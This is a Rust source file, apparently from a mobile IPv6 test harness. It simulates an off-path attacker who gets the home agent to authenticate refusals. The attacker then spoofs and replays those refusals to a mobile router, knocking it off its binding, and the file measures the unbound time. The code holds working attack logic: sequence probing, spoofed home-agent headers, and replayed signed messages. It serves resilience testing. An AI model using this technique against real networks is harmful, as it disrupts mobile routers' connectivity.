@@ -1,0 +1,122 @@
+//! An outsider lets the home agent sign refusals (RFC 4285 §5), and shows them to the mobile router as answers to its own
+//! updates.
+
+use super::{OUT_OF_WINDOW, Outsider, insider, own_address};
+use crate::clock;
+use crate::topology::{CORRESPONDENT, HOME_AGENT, World};
+use crate::traffic::forge::{Registrant, Request, acknowledgement};
+use anyhow::{Context, Result};
+use roam6_proto::Report;
+use roam6_proto::view::BindingView;
+use roam6_wire::Sequence;
+use roam6_wire::ip6::{self, Datagram, Header, protocol};
+use roam6_wire::mobility::Message;
+use std::net::Ipv6Addr;
+use std::time::Duration;
+
+/// How long the home agent's answer is awaited in each round: its answers may be limited in number.
+const ANSWER: Duration = Duration::from_millis(100);
+
+/// Seconds of `span` in which the mobile router was not bound.
+pub(crate) fn unbound_seconds(span: Duration) -> Result<f64> {
+    let world = World::build(Duration::ZERO, 1, "duplicate_detection = false")?;
+    let vehicle = world.vehicle(0, &["up0"])?;
+    world.air.plug(vehicle.uplink(0)?, world.visited[0].link)?;
+    vehicle.wait_until_connected(CORRESPONDENT)?;
+    let bindings: Vec<BindingView> = serde_json::from_str(&vehicle.daemon.ask(&["show", "bindings", "--json"])?)?;
+    let care_of = bindings.iter().find_map(|binding| binding.care_of).context("the mobile router is not bound")?;
+    let mut forger = Forger {
+        outsider: Outsider::connect(&world)?,
+        victim: Registrant { secret: b"not the key".to_vec(), ..insider(0, care_of) },
+        last: None,
+    };
+    let began = clock::unix_micros();
+    let end = clock::now() + span;
+    while clock::now() < end {
+        forger.round()?;
+    }
+    let until = clock::unix_micros();
+    let events = vehicle.daemon.events().since(0);
+    let changes = events.iter().filter_map(|event| match &event.report {
+        Report::Bound { .. } => Some((event.unix_micros, true)),
+        Report::Unbound { .. } => Some((event.unix_micros, false)),
+        _ => None,
+    });
+    Ok(unbound(changes, began, until) as f64 / 1e6)
+}
+
+/// Microseconds from `began` until `until` that were not bound, by changes in order of time.
+fn unbound(changes: impl Iterator<Item = (u64, bool)>, began: u64, until: u64) -> u64 {
+    let (mut total, mut lost_at) = (0, None);
+    for (at, bound) in changes.filter(|(at, _)| (began..until).contains(at)) {
+        match (bound, lost_at) {
+            (false, None) => lost_at = Some(at),
+            (true, Some(lost)) => {
+                total += at - lost;
+                lost_at = None;
+            }
+            _ => {}
+        }
+    }
+    total + lost_at.map_or(0, |lost| until - lost)
+}
+
+/// Who knows the addresses of both ends and no key.
+struct Forger {
+    outsider: Outsider,
+    victim: Registrant,
+    /// The last number the home agent has accepted, if it has told.
+    last: Option<Sequence>,
+}
+
+impl Forger {
+    /// Learns the last number, lets a refusal of the next one be signed, makes the mobile router send an update of that
+    /// number, and shows it the refusal.
+    fn round(&mut self) -> Result<()> {
+        // One of any two numbers half of the space apart is too old.
+        let guesses = self.last.map_or(vec![Sequence(0), Sequence(0x8000)], |last| vec![last.next(), last.next()]);
+        for sequence in guesses {
+            let request = Request::new(self.last.map_or(sequence, Sequence::next));
+            self.outsider.send(&self.victim.request_from(own_address(1), &request))?;
+            match self.outsider.hear(ANSWER, |packet| acknowledgement(packet).map(|told| (told, packet.to_vec()))) {
+                Some(((_, OUT_OF_WINDOW, last), _)) => self.last = Some(last),
+                Some(((_, status, _), packet)) if status >= 128 && self.last.is_some() => return self.show(&packet),
+                _ => {}
+            }
+        }
+        Ok(())
+    }
+
+    fn show(&mut self, refusal: &[u8]) -> Result<()> {
+        let Ok(datagram) = Datagram::parse(refusal) else { return Ok(()) };
+        let message = Message::BindingRefreshRequest { options: Vec::new() };
+        let request = message.emit(HOME_AGENT, self.victim.home.0);
+        let forged = datagram.payload.to_vec();
+        self.outsider.send(&self.to_victim(&request))?;
+        // The update leaves a moment after the request has come.
+        for _ in 0..10 {
+            std::thread::sleep(Duration::from_millis(5));
+            self.outsider.send(&self.to_victim(&forged))?;
+        }
+        Ok(())
+    }
+
+    /// A mobility message to the care-of address that seems to come from the home agent.
+    fn to_victim(&self, message: &[u8]) -> Vec<u8> {
+        let care_of: Ipv6Addr = self.victim.care_of.0;
+        let header = Header::new(HOME_AGENT, care_of).with_routing_home(self.victim.home.0);
+        ip6::emit(&header, protocol::MOBILITY, message)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn time_without_a_binding_is_summed_up() {
+        let changes = [(5, true), (10, false), (12, false), (20, true), (30, false)];
+        assert_eq!(unbound(changes.into_iter(), 6, 40), 10 + 10);
+        assert_eq!(unbound([].into_iter(), 6, 40), 0);
+    }
+}
